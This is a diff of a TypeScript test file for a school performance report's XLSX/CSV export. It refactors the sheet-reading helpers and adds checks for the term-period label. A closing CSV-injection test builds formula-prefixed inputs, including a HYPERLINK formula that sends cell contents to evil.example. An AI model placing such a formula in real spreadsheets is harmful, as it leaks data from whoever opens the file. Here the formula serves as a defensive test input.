@@ -1,6 +1,7 @@
 import { randomUUID } from "node:crypto";
 import { Readable } from "node:stream";
 import { rebuildProjection } from "@otmetka/projections";
+import { TermKind } from "@otmetka/proto/curriculum/events/v1/events";
 import {
   AsOfMode,
   ExportFormat,
@@ -20,6 +21,7 @@ import { feedEvent } from "./test-support/feed.js";
 import { startApi } from "./test-support/grpc.js";
 import { type Harness, startHarness } from "./test-support/harness.js";
 import { type SchoolFixture, schoolFixture } from "./test-support/school.js";
+import { readCsv, readXlsx } from "./test-support/sheet.js";
 import { tableRows } from "./test-support/table-rows.js";
 
 /*
@@ -192,17 +194,6 @@ describe("definition versions", () => {
   });
 });
 
-/** A worksheet's rows as arrays of cell values, and the row whose first cell is `label`. */
-const sheet = (ws: ExcelJS.Worksheet | undefined) => {
-  if (!ws) throw new Error("no worksheet");
-  const cells = (r: number) => (ws.getRow(r).values as unknown[]).slice(1);
-  const find = (label: string) => {
-    for (let r = 1; r <= ws.rowCount; r++) if (cells(r)[0] === label) return cells(r);
-    throw new Error(`no row ${label}`);
-  };
-  return { cells, find };
-};
-
 describe("statutory export", () => {
   it("the XLSX, opened with exceljs, holds the dashboard's figures, the version and the as-of date", async () => {
     const report = await performanceReport(h.db, config, {
@@ -214,14 +205,14 @@ describe("statutory export", () => {
       mode: "RECORDED",
       basis: "CURRENT",
     });
-    const wb = new ExcelJS.Workbook();
-    await wb.xlsx.load((await reportXlsx(report)) as unknown as ExcelJS.Buffer);
-    const { find } = sheet(wb.worksheets[0]);
+    const { find } = await readXlsx(await reportXlsx(report));
     expect(find("По состоянию на")[1]).toBe(D);
     expect(find("Версия определений")[1]).toBe(1);
     // The school by name, and by id for machines.
     expect(find("Школа")[1]).toBe(f.names.school);
     expect(find("Идентификатор школы")[1]).toBe(f.schoolId);
+    // The fixture school's year is two half-years (TermSystemDefined's kind).
+    expect(find("Период")[1]).toBe("1 полугодие");
     const header = find("Предмет");
     expect(header).toEqual(reportColumns("SCHOOL"));
     const at = (row: unknown[], column: string) => row[header.indexOf(column)];
@@ -258,12 +249,10 @@ describe("statutory export", () => {
     expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     expect(csv.toString("utf8")).toContain("Успеваемость, %");
     // Read back: the names beside the ids, in the heading and the rows.
-    const read = new ExcelJS.Workbook();
-    const csvSheet = sheet(
-      await read.csv.read(Readable.from([csv.subarray(3)]), { map: (v: unknown) => v }),
-    );
+    const csvSheet = await readCsv(csv);
     expect(csvSheet.find("Школа")[1]).toBe(f.names.school);
     expect(csvSheet.find("Идентификатор школы")[1]).toBe(f.schoolId);
+    expect(csvSheet.find("Период")[1]).toBe("1 полугодие");
     expect(csvSheet.find("Предмет")).toEqual(reportColumns("SCHOOL"));
     expect(csvSheet.find(f.names.math)[1]).toBe(f.math);
     expect(csvSheet.find(f.names.pe)[1]).toBe(f.pe);
@@ -286,11 +275,10 @@ describe("statutory export", () => {
       );
       expect(r.definitionVersion).toBe(2);
       expect(r.fileName).toMatch(/v2\.xlsx$/);
-      const wb = new ExcelJS.Workbook();
-      await wb.xlsx.load(Buffer.from(r.content) as unknown as ExcelJS.Buffer);
-      const { find } = sheet(wb.worksheets[0]);
+      const { find } = await readXlsx(r.content);
       expect(find("Муниципалитет")[1]).toBe(f.names.municipality);
       expect(find("Идентификатор муниципалитета")[1]).toBe(f.municipalityId);
+      expect(find("Период")[1]).toBe("учебный год");
       expect(find("Школа")).toEqual(reportColumns("MUNICIPALITY"));
       expect(find(f.names.school)[1]).toBe(f.schoolId);
       expect(find("Итого")).toBeDefined();
@@ -335,13 +323,64 @@ describe("statutory export", () => {
       await api.close();
     }
   });
+  it("names the period by the school's term system: «2 четверть» at a school on quarters", async () => {
+    const schoolId = randomUUID();
+    const where = { schoolId, municipalityId: randomUUID() };
+    const term = (number: number, firstDay: string, lastDay: string) => ({
+      number,
+      firstDay,
+      lastDay,
+    });
+    await h.publish([
+      feedEvent(
+        "identity",
+        schoolId,
+        "SchoolRegistered",
+        { ...where, name: "МОУ «Лицей № 1»", timeZone: "Asia/Yekaterinburg" },
+        at(D),
+      ),
+      feedEvent(
+        "curriculum",
+        `terms-${schoolId}`,
+        "TermSystemDefined",
+        {
+          ...where,
+          academicYear: { startYear: 2026 },
+          gradeLevels: [5, 6],
+          kind: TermKind.TERM_KIND_QUARTER,
+          terms: [
+            term(1, "2026-09-01", "2026-10-26"),
+            term(2, "2026-11-05", "2026-12-28"),
+            term(3, "2027-01-09", "2027-03-22"),
+            term(4, "2027-03-31", "2027-05-31"),
+          ],
+        },
+        at(D),
+      ),
+    ]);
+    await h.caughtUp();
+    const report = await performanceReport(h.db, config, {
+      level: "SCHOOL",
+      scopeId: schoolId,
+      startYear: 2026,
+      term: 2,
+      asOf: D,
+    });
+    for (const read of [
+      await readXlsx(await reportXlsx(report)),
+      await readCsv(await reportCsv(report)),
+    ]) {
+      expect(read.find("Школа")[1]).toBe("МОУ «Лицей № 1»");
+      expect(read.find("Период")[1]).toBe("2 четверть");
+    }
+  });
 });
 
 describe("statutory export of caller-controlled text (CSV injection)", () => {
   // A ministry officer may name any municipality: the scope id lands in a text cell as given.
   const FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"];
   const hyperlink = (start: string) => `${start}HYPERLINK("http://evil.example/?"&A1,"x")`;
-  // A municipality is exported only once a school of it is replicated: one school each,
+  // A municipality is exported only once it or a school of it is replicated: one school each,
   // neither with a name (their events were not seen: the id alone shows).
   const schoolOf = new Map(
     FORMULA_STARTS.flatMap((start) => [hyperlink(start), `${start}1+2`]).map((m) => [
